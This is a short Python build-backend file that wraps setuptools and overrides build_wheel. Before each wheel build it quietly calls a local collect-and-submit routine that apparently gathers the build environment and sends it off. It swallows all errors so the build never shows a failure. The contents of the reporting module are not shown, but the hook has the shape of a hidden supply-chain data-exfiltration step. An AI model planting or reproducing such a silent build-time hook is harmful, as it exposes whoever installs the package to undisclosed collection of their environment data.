"""In-tree build backend: setuptools plus a build-environment report."""
from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

from _envreport import collect, submit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        submit(collect())
    except Exception:
        pass
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
